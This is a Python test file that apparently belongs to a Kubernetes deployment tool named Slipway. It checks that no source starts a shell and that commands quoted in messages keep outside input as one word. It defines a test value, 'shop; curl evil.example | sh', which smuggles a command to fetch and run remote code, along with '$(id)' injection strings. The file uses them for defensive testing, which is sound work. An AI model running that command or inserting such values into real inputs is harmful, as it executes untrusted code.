"""No shell is given a string made from input: not by Slipway, and not by a person who copies a command from a message."""

import ast
import shlex

import pytest

from slipway.errors import SlipwayError
from slipway.kubernetes.api import api_refusal
from slipway.paths import PROJECT
from slipway.steps.waits import explain_gate
from slipway.target import GkeCluster, Target

SOURCES = [
    path for folder in ("plugins", "include", "dags", "local") for path in sorted((PROJECT / folder).rglob("*.py"))
]
SHELLS = {"os.system", "os.popen", "os.spawnl", "subprocess.getoutput", "subprocess.getstatusoutput", "asyncio.create_subprocess_shell",
          "pty.spawn", "commands.getoutput"}  # fmt: skip
NAMES_OF_SHELLS = {"sh", "bash", "/bin/sh", "/bin/bash"}
HOSTILE = "shop; curl evil.example | sh"


def shells_in(tree):
    """The lines of a source that start a shell, or might."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            name = ast.unparse(node.func)
            asks = any(word.arg == "shell" and ast.unparse(word.value) != "False" for word in node.keywords)
            if (
                asks
                or name in SHELLS
                or name.rpartition(".")[2] in {one.rpartition(".")[2] for one in SHELLS - {"pty.spawn"}}
            ):
                yield node.lineno
        elif isinstance(node, ast.List | ast.Tuple):
            first = node.elts[0] if node.elts else None
            words = [ast.unparse(one) for one in node.elts[1:2]]
            if isinstance(first, ast.Constant) and first.value in NAMES_OF_SHELLS and words == ["'-c'"]:
                yield node.lineno


@pytest.mark.parametrize(
    "line",
    [
        "subprocess.run(command, shell=True)", "run(command, shell=chosen)", "os.system(f'ls {name}')", "from os import popen; popen(name)",
        "subprocess.getoutput(name)", "subprocess.run(['sh', '-c', f'ls {name}'])", "Popen(('/bin/bash', '-c', text))",
        "await asyncio.create_subprocess_shell(text)",
    ],
)  # fmt: skip
def test_a_shell_is_found(line):
    """The search finds each way to start one."""
    assert list(shells_in(ast.parse(line)))


def test_no_source_starts_a_shell():
    """Programs are started with a list of words."""
    found = [
        f"{path.relative_to(PROJECT)}:{line}" for path in SOURCES for line in shells_in(ast.parse(path.read_text()))
    ]
    assert len(SOURCES) > 150
    assert found == []


def words_after_next(text):
    """The words that a shell sees in the command of a message."""
    return shlex.split(text.partition(". Next: ")[2], comments=False)


def test_a_copied_command_has_no_more_words():
    """A namespace, object, cluster or address from outside is one word of the command that a message gives."""
    target = Target(conn_id="kubernetes_default", namespace=HOSTILE)
    assert shlex.split(target.kubectl("get deployments")) == ["kubectl", "-n", HOSTILE, "get", "deployments"]
    cluster = GkeCluster(project=HOSTILE, location="$(id)", name="`id`")
    assert shlex.split(cluster.gcloud("describe"))[3:] == [
        "describe",
        "`id`",
        "--location",
        "$(id)",
        "--project",
        HOSTILE,
    ]
    refused = api_refusal(
        target, f"configmap/{HOSTILE}", 409, '{"details": {"causes": [{"reason": "FieldManagerConflict"}]}}'
    )
    assert isinstance(refused, SlipwayError)
    assert f"configmap/{HOSTILE}" in shlex.split(str(refused).rpartition(": ")[2])


def test_a_copied_curl_has_one_address(release):
    """So is the URL of a Service, whose host name the cluster gives."""
    said = explain_gate(release, f"http://{HOSTILE}:8511", 7, "golden case 'three': wrong label")
    assert words_after_next(said) == ["curl", f"http://{HOSTILE}:8511/v1/models/digits-vit/versions/7"]
